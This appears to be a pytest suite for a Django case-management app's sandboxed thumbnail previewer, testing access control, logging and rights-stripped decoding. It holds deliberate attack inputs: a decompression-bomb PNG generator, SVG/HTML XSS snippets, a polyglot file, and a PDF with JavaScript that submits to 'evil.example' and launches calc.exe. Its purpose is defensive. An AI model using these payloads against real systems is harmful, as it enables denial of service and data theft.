"""Files are drawn in a process that can do nothing else, and only as a picture that our own encoder made."""

import hashlib
import io
import struct
import subprocess
import sys
import zlib
from collections.abc import Iterator
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image
from tests.desks.cases.conftest import officer_named, posted, sit_down

from comity.desks.cases import thumbnails
from comity.desks.cases.models import CaseMessage, StoredDraft
from comity.desks.cases.thumbnails import Look, look
from comity.formats import thumbnailing
from comity.messages import canonical
from comity.node.ledger.models import Entry
from comity.sealing import SealingError

KEY = "fedcba9876543210" * 2


def picture(width: int = 1000, height: int = 500, kind: str = "PNG", **more: Any) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (width, height), "navy").save(made, kind, **more)
    return made.getvalue()


def bomb(width: int, height: int) -> bytes:
    """Return a PNG of few bytes that declares that many points and has them."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    packer = zlib.compressobj(9)
    points = b"".join(packer.compress(b"\0" * (width + 1)) for _row in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", points) + chunk(b"IEND", b"")


def document(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Return a PDF of one page; further objects are numbered from 4."""
    made = io.BytesIO()
    made.write(b"%PDF-1.7\n")
    places = []
    fixed = (
        b"<</Type/Catalog/Pages 2 0 R" + trailer + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>",
    )
    for number, one in enumerate((*fixed, *objects), start=1):
        places.append(made.tell())
        made.write(b"%d 0 obj%s endobj\n" % (number, one))
    table = made.tell()
    made.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    made.writelines(b"%010d 00000 n \n" % place for place in places)
    made.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, table))
    return made.getvalue()


def seen(data: bytes, claimed: str = "application/octet-stream") -> Look:
    return look([data], claimed, len(data))


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP", "BMP", "TIFF"])
def test_a_picture_is_drawn_small_by_our_own_encoder(kind: str) -> None:
    found = seen(picture(kind=kind))
    assert (found.width, found.height, found.fault) == (1000, 500, "")
    assert Image.open(io.BytesIO(found.picture)).size == (thumbnailing.EDGE, thumbnailing.EDGE // 2)


def test_nothing_of_the_metadata_comes_along() -> None:
    exif = Image.Exif()
    exif[0x010E] = "at the safe house"  # description
    exif[0x0112] = 6  # lies on its side
    original = picture(kind="JPEG", exif=exif, comment=b"by officer 12")
    assert b"safe house" in original
    made = Image.open(io.BytesIO(seen(original).picture))
    assert made.size == (thumbnailing.EDGE // 2, thumbnailing.EDGE)  # turned upright
    assert not made.getexif()
    assert not {"exif", "xmp", "icc_profile", "comment"} & set(made.info)


def test_a_bomb_is_refused_before_a_point_is_decoded() -> None:
    data = bomb(9_000, 9_000)
    assert len(data) < 100_000
    assert seen(data).fault == "large"


def test_a_picture_that_lies_about_its_size_takes_nothing_down() -> None:
    declared = bomb(5_000, 8_000)[:16] + struct.pack(">II", 100, 100) + bomb(5_000, 8_000)[24:]
    assert seen(declared).fault in {"broken", ""}


@pytest.mark.parametrize("cut", [9, 60, 400])
def test_a_file_that_is_cut_off_is_told_as_broken(cut: int) -> None:
    assert (seen(picture()[:cut]).fault, seen(picture()[:cut]).picture) == ("broken", b"")


def test_what_is_two_things_at_once_is_drawn_as_one_and_nothing_of_the_other_comes_along() -> None:
    both = picture(20, 20, "GIF") + b"<script>alert(1)</script>PK\x03\x04"
    found = seen(both, "text/html")
    assert (found.found, found.agrees, found.fault) == ("image/gif", False, "")
    assert b"script" not in found.picture


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml"),
        (b"<html><script>", "text/html"),
        (b"MZ\x90\0", "application/vnd.microsoft.portable-executable"),
        (b"", "application/octet-stream"),
    ],
)
def test_what_is_no_picture_is_not_drawn(data: bytes, found: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(subprocess, "run", None)  # not even tried
    assert (seen(data, "image/png").found, seen(data).fault, seen(data).picture) == (found, "kind", b"")


def test_a_document_is_drawn_and_nothing_in_it_is_run() -> None:
    script = b"<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('http://evil.example/'\\);)>>"
    launch = b"<</S/Launch/F(calc.exe)>>"
    found = seen(document(script, launch, trailer=b"/OpenAction 4 0 R/AA<</WC 5 0 R>>"), "application/pdf")
    assert (found.found, found.pages, found.fault, found.agrees) == ("application/pdf", 1, "", True)
    assert Image.open(io.BytesIO(found.picture)).size == (thumbnailing.EDGE, thumbnailing.EDGE // 2)


def test_the_library_that_draws_documents_has_no_engine_for_scripts() -> None:
    from pypdfium2 import PDFIUM_INFO

    assert not {"V8", "XFA"} & set(PDFIUM_INFO.flags)


def test_a_page_of_absurd_size_and_a_broken_document_take_nothing_down() -> None:
    huge = document().replace(b"0 0 200 100", b"0 0 9e9 1e9")
    assert seen(huge).fault in {"", "broken", "large"}
    assert seen(document()[:80]).fault == "broken"


def test_a_large_file_is_told_by_its_first_bytes_alone() -> None:
    def chunks() -> Iterator[bytes]:
        yield picture()[:5000].ljust(5000, b"\0")
        raise AssertionError("more was read than is needed")

    assert look(chunks(), "image/png", thumbnails.MOST_BYTES + 1).fault == "large"


def test_what_was_altered_on_the_disk_is_said() -> None:
    def chunks() -> Iterator[bytes]:
        yield b"\x89PNG"
        raise SealingError("altered")

    assert look(chunks(), "image/png", 100).fault == "altered"


def test_a_decoder_that_hangs_or_dies_is_survived(monkeypatch: pytest.MonkeyPatch) -> None:
    def hang(*_: object, **__: object) -> None:
        raise subprocess.TimeoutExpired("draw", 1)

    monkeypatch.setattr(subprocess, "run", hang)
    assert seen(picture()).fault == "late"
    dead = subprocess.CompletedProcess([], -11, b"", b"")
    monkeypatch.setattr(subprocess, "run", lambda *_, **__: dead)
    assert seen(picture()).fault == "broken"


RIGHTS = """
import sys; sys.path.insert(0, {folder!r})
import socket, thumbnailing
thumbnailing._give_up_rights()
much = 2 * thumbnailing.MEMORY_BYTES
for attempt in (lambda: open("/etc/hostname"), socket.socket, lambda: bytearray(much)):
    try:
        attempt()
    except (OSError, MemoryError) as error:
        print(type(error).__name__)
    else:
        print("could")
"""


def test_the_process_that_draws_can_open_nothing_and_has_bounded_memory() -> None:
    folder = str(thumbnailing.__file__).rpartition("/")[0]
    said = subprocess.run(
        [sys.executable, "-c", RIGHTS.format(folder=folder)], capture_output=True, text=True, check=True, timeout=20
    )
    assert said.stdout.split() == ["OSError", "OSError", "MemoryError"]


@pytest.fixture
def message(browser: Client) -> CaseMessage:
    return sent_with(browser, picture(), "harbour.png", "text/html")


def sent_with(browser: Client, data: bytes, name: str, claimed: str) -> CaseMessage:
    browser.post("/cases/new", dict(posted(draft=KEY, step="files").lists()))
    stored = StoredDraft.objects.get()
    file = SimpleUploadedFile(name, data, content_type=claimed)
    browser.post(reverse("cases:draft_files", args=[stored.pk]), {"file": file})
    browser.post("/cases/new", dict(posted(draft=KEY, step="send").lists()))
    _send_now(browser)
    return CaseMessage.objects.get()


def _send_now(browser: Client) -> None:
    stored = StoredDraft.objects.get()
    if stored.message_id is None:  # it can still be called back
        browser.post(reverse("cases:send_now", args=[stored.pk]))


def address(message: CaseMessage, data: bytes | None = None) -> str:
    return reverse("cases:look", args=[message.pk, hashlib.sha256(data or picture()).hexdigest()])


def test_a_look_shows_picture_type_size_and_hash_and_is_recorded(browser: Client, message: CaseMessage) -> None:
    assert address(message) in browser.get(f"/cases/{message.case_id}/").content.decode()
    answer = browser.get(address(message))
    page = answer.content.decode()
    assert 'src="data:image/webp;base64,' in page
    assert "image/png" in page
    assert "text/html" in page
    assert "not the same" in page
    assert "1000 by 500 points" in page
    assert hashlib.sha256(picture()).hexdigest() in page
    assert answer["Cache-Control"] == "no-store"
    last = canonical.decode(bytes(Entry.objects.exclude(opening=None).latest("id").opening or b""))
    assert (last["kind"], last["officer"]) == ("attachment.consulted", "hale")


def test_a_look_within_the_page_of_the_case_is_a_part_of_a_page(browser: Client, message: CaseMessage) -> None:
    answer = browser.get(address(message), headers={"HX-Request": "true"})
    assert "<html" not in answer.content.decode()
    assert 'src="data:image/webp;base64,' in answer.content.decode()
    assert "HX-Request" in answer["Vary"]


def test_the_bytes_of_the_file_are_never_shown(browser: Client) -> None:
    data = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    page = browser.get(address(sent_with(browser, data, "<b>.svg", "image/svg+xml"), data)).content.decode()
    assert "are not drawn here" in page
    assert "data:image" not in page.partition("<main")[2]
    assert "onload" not in page.partition("<main")[2]


def test_to_a_stranger_there_is_no_look(browser: Client, message: CaseMessage) -> None:
    assert sit_down(officer_named("stranger", authority="xa.cid")).get(address(message)).status_code == 404
    for role in ("auditor", "administrator"):
        assert sit_down(officer_named(role, role=role)).get(address(message)).status_code == 403


def test_of_a_file_that_the_message_does_not_name_there_is_no_look(browser: Client, message: CaseMessage) -> None:
    assert browser.get(address(message, b"another")).status_code == 302
